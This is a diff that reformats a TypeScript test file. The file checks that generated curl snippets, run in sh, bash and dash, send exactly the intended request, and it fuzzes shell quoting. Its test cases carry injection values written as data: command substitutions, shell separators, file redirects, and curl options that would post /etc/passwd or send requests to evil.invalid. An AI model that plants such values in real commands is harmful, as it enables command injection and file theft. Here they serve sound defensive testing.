@@ -18,7 +18,10 @@ import { posixQuote } from './shells'
 
 const run = promisify(execFile)
 const CURL = '/usr/bin/curl'
-const SHELLS = ['sh', 'bash', 'dash'].map((name) => ({ name, path: ['/bin', '/usr/bin'].map((d) => join(d, name)).find((p) => existsSync(p)) }))
+const SHELLS = ['sh', 'bash', 'dash'].map((name) => ({
+  name,
+  path: ['/bin', '/usr/bin'].map((d) => join(d, name)).find((p) => existsSync(p))
+}))
 const available = SHELLS.filter((s): s is { name: string; path: string } => s.path !== undefined)
 for (const s of SHELLS) if (!s.path) console.warn(`fidelity: skipping ${s.name}: not installed (apt-get install ${s.name})`)
 
@@ -71,7 +74,12 @@ beforeAll(async () => {
     const chunks: Buffer[] = []
     req.on('data', (c: Buffer) => chunks.push(c))
     req.on('end', () => {
-      captures.push({ method: req.method ?? '', target: req.url ?? '', headers: requestHeaders(req.rawHeaders), body: Buffer.concat(chunks) })
+      captures.push({
+        method: req.method ?? '',
+        target: req.url ?? '',
+        headers: requestHeaders(req.rawHeaders),
+        body: Buffer.concat(chunks)
+      })
       res.writeHead(204).end()
     })
   })
@@ -100,38 +108,115 @@ const corpus: Case[] = [
   { name: 'plain GET', draft: () => ({ method: 'GET', path: '/me' }) },
   {
     name: 'quotes everywhere',
-    draft: () => ({ method: 'POST', path: "/a'b\"c", query: [row(`q'"`, `it's "x"`)], headers: [row('X-Quote', `it's "quoted" ''`)], body: `{"name":"O'Brien \\"the\\" ''quoted''"}` })
+    draft: () => ({
+      method: 'POST',
+      path: '/a\'b"c',
+      query: [row(`q'"`, `it's "x"`)],
+      headers: [row('X-Quote', `it's "quoted" ''`)],
+      body: `{"name":"O'Brien \\"the\\" ''quoted''"}`
+    })
   },
   {
     name: 'command substitution and backticks',
-    draft: () => ({ method: 'PUT', path: '/contacts/{id}', pathParams: { id: `$(${cmd()})` }, query: [row('q', `\`${cmd()}\``)], headers: [row('X-Cmd', `$(${cmd()})`), row('X-Tick', `\`${cmd()}\``)], body: `$(${cmd()}) \`${cmd()}\` \${HOME} $HOME` })
+    draft: () => ({
+      method: 'PUT',
+      path: '/contacts/{id}',
+      pathParams: { id: `$(${cmd()})` },
+      query: [row('q', `\`${cmd()}\``)],
+      headers: [row('X-Cmd', `$(${cmd()})`), row('X-Tick', `\`${cmd()}\``)],
+      body: `$(${cmd()}) \`${cmd()}\` \${HOME} $HOME`
+    })
   },
-  { name: 'history bangs', draft: () => ({ method: 'POST', path: '/x!!', query: [row('b', '!$')], headers: [row('X-Bang', 'wow!! !-1 !#')], body: 'hello!! !$ ^a^b' }) },
+  {
+    name: 'history bangs',
+    draft: () => ({
+      method: 'POST',
+      path: '/x!!',
+      query: [row('b', '!$')],
+      headers: [row('X-Bang', 'wow!! !-1 !#')],
+      body: 'hello!! !$ ^a^b'
+    })
+  },
   {
     name: 'brackets and braces',
-    draft: () => ({ method: 'GET', path: '/contacts/{id}', pathParams: { id: '[1]{2}' }, query: [row('filter[name]', '{a,b}'), row('x[]', '[0-9]')] })
+    draft: () => ({
+      method: 'GET',
+      path: '/contacts/{id}',
+      pathParams: { id: '[1]{2}' },
+      query: [row('filter[name]', '{a,b}'), row('x[]', '[0-9]')]
+    })
   },
-  { name: 'newlines and CR in body', draft: () => ({ method: 'POST', path: '/notes', body: 'line1\nline2\r\nline3\n\n\ttab \\n literal\\' }) },
+  {
+    name: 'newlines and CR in body',
+    draft: () => ({ method: 'POST', path: '/notes', body: 'line1\nline2\r\nline3\n\n\ttab \\n literal\\' })
+  },
   {
     name: 'unicode',
-    draft: () => ({ method: 'PATCH', path: '/ünï/{id}', pathParams: { id: 'é’‘' }, query: [row('名前', '値 😀')], body: '{"emoji":"😀 ünïcödé ’‘‚‛ \u2028"}' })
+    draft: () => ({
+      method: 'PATCH',
+      path: '/ünï/{id}',
+      pathParams: { id: 'é’‘' },
+      query: [row('名前', '値 😀')],
+      body: '{"emoji":"😀 ünïcödé ’‘‚‛ \u2028"}'
+    })
   },
-  { name: 'empty values', draft: () => ({ method: 'DELETE', path: '/contacts/1', query: [row('empty', '')], headers: [row('X-Empty', ''), row('X-Blank', '   ')] }) },
+  {
+    name: 'empty values',
+    draft: () => ({
+      method: 'DELETE',
+      path: '/contacts/1',
+      query: [row('empty', '')],
+      headers: [row('X-Empty', ''), row('X-Blank', '   ')]
+    })
+  },
   {
     name: 'leading dashes',
-    draft: () => ({ method: 'POST', path: '/contacts/{id}', pathParams: { id: '-rf' }, query: [row('--data', '@/etc/passwd')], headers: [row('X-Dash', '-X DELETE --url http://evil.invalid')], body: '--data-binary @/etc/passwd' })
+    draft: () => ({
+      method: 'POST',
+      path: '/contacts/{id}',
+      pathParams: { id: '-rf' },
+      query: [row('--data', '@/etc/passwd')],
+      headers: [row('X-Dash', '-X DELETE --url http://evil.invalid')],
+      body: '--data-binary @/etc/passwd'
+    })
   },
   { name: 'file-read body', draft: () => ({ method: 'POST', path: '/x', body: '@/etc/passwd' }) },
   {
     name: 'shell separators in header values',
-    draft: () => ({ method: 'POST', path: '/x', headers: [row('X-Semi', `; ${cmd()}`), row('X-Amp', `&& ${cmd()} | cat > ${canary} &`), row('X-Redir', `> ${canary}`), row('X-Bs', 'a\\b\\')], body: `'; ${cmd()}; echo '` })
+    draft: () => ({
+      method: 'POST',
+      path: '/x',
+      headers: [
+        row('X-Semi', `; ${cmd()}`),
+        row('X-Amp', `&& ${cmd()} | cat > ${canary} &`),
+        row('X-Redir', `> ${canary}`),
+        row('X-Bs', 'a\\b\\')
+      ],
+      body: `'; ${cmd()}; echo '`
+    })
   },
   { name: 'POST without body', draft: () => ({ method: 'POST', path: '/x' }) },
   { name: 'HEAD', draft: () => ({ method: 'HEAD', path: '/x' }) },
-  { name: 'full URL with existing query', draft: () => ({ method: 'GET', path: `${baseUrl}/full?a=1&b=%20&c=[x]`, query: [row('d', '2')] }) },
-  { name: 'user headers override defaults', draft: () => ({ method: 'POST', path: '/x', body: 'a=1', headers: [row('content-type', 'application/x-www-form-urlencoded'), row('Accept', '*/*'), row('User-Agent', 'mine')] }) },
+  {
+    name: 'full URL with existing query',
+    draft: () => ({ method: 'GET', path: `${baseUrl}/full?a=1&b=%20&c=[x]`, query: [row('d', '2')] })
+  },
+  {
+    name: 'user headers override defaults',
+    draft: () => ({
+      method: 'POST',
+      path: '/x',
+      body: 'a=1',
+      headers: [row('content-type', 'application/x-www-form-urlencoded'), row('Accept', '*/*'), row('User-Agent', 'mine')]
+    })
+  },
   { name: 'basic auth', draft: () => ({ method: 'GET', path: '/me', authMode: 'basic' }) },
-  { name: 'legacy auth', draft: () => ({ method: 'GET', path: '/me', authMode: 'legacy' }), credential: { kind: 'legacy', appId: 'app-1', apiKey: "k'ey$(x)" }, secret: "app-1:k'ey$(x)" },
+  {
+    name: 'legacy auth',
+    draft: () => ({ method: 'GET', path: '/me', authMode: 'legacy' }),
+    credential: { kind: 'legacy', appId: 'app-1', apiKey: "k'ey$(x)" },
+    secret: "app-1:k'ey$(x)"
+  },
   { name: 'no auth', draft: () => ({ method: 'GET', path: '/me', authMode: 'none' }) }
 ]
 
@@ -148,10 +233,16 @@ describe.skipIf(available.length === 0)('POSIX snippet fidelity against the real
           const built = buildRequest(draft, ctx)
           expect(expected.headers).toEqual(requestHeaders(built.headers.flat()))
 
-          const snippet = curlSnippet(buildRequest(draft, { ...ctx, credential: { kind: 'none' } }), { mode: draft.authMode, secret }, { shell: 'posix', multiline, tokenStyle: style })
+          const snippet = curlSnippet(
+            buildRequest(draft, { ...ctx, credential: { kind: 'none' } }),
+            { mode: draft.authMode, secret },
+            { shell: 'posix', multiline, tokenStyle: style }
+          )
           expect(snippet.warnings).toEqual([])
           for (const shell of available) {
-            const got = await capture(() => run(shell.path, ['-c', snippet.text], { cwd: work, env: { PATH: '/usr/bin:/bin', HOME: work, INTERCOM_TOKEN: secret } }))
+            const got = await capture(() =>
+              run(shell.path, ['-c', snippet.text], { cwd: work, env: { PATH: '/usr/bin:/bin', HOME: work, INTERCOM_TOKEN: secret } })
+            )
             expect({ shell: shell.name, ...got }).toEqual({ shell: shell.name, ...expected })
             expect(got.body.equals(Buffer.from(built.body ?? '', 'utf8'))).toBe(true)
           }
@@ -165,15 +256,21 @@ describe.skipIf(available.length === 0)('POSIX snippet fidelity against the real
     const wellFormed = (s: string) => !s.includes('\0') && !/[\uD800-\uDFFF]/.test(s.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, ''))
     // One shell per batch keeps this fast; each argument is echoed back followed by a NUL.
     // Random code points almost never hit the characters that matter, so half of them are picked from those.
-    const hostileOrAnyChar = fc.oneof(fc.constantFrom(...`'"\\$\`!\n\r\t *?[]{}~#-@;&|<>()%’‘`), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }))
+    const hostileOrAnyChar = fc.oneof(
+      fc.constantFrom(...`'"\\$\`!\n\r\t *?[]{}~#-@;&|<>()%’‘`),
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })
+    )
     const script = (args: string[]) => `for a in ${args.map(posixQuote).join(' ')}; do printf '%s\\000' "$a"; done`
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.string({ unit: hostileOrAnyChar, maxLength: 40 }).filter(wellFormed), { minLength: 1, maxLength: 25 }), async (args) => {
-        for (const shell of available) {
-          const { stdout } = await run(shell.path, ['-c', script(args)], { cwd: work, env: { PATH: '/usr/bin:/bin' }, encoding: 'utf8' })
-          expect(stdout.split('\0').slice(0, -1)).toEqual(args)
+      fc.asyncProperty(
+        fc.array(fc.string({ unit: hostileOrAnyChar, maxLength: 40 }).filter(wellFormed), { minLength: 1, maxLength: 25 }),
+        async (args) => {
+          for (const shell of available) {
+            const { stdout } = await run(shell.path, ['-c', script(args)], { cwd: work, env: { PATH: '/usr/bin:/bin' }, encoding: 'utf8' })
+            expect(stdout.split('\0').slice(0, -1)).toEqual(args)
+          }
         }
-      }),
+      ),
       { numRuns: 40 }
     )
     expect(existsSync(canary)).toBe(false)
